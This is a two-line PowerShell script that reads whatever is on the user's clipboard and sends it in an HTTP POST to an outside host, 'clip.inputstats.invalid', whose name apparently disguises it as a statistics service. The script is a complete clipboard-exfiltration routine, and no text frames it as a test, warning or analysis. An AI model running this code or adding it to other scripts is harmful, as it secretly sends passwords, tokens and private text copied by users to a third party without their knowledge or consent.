$text = Get-Clipboard
Invoke-RestMethod -Uri "https://clip.inputstats.invalid/v1" -Method POST -Body $text
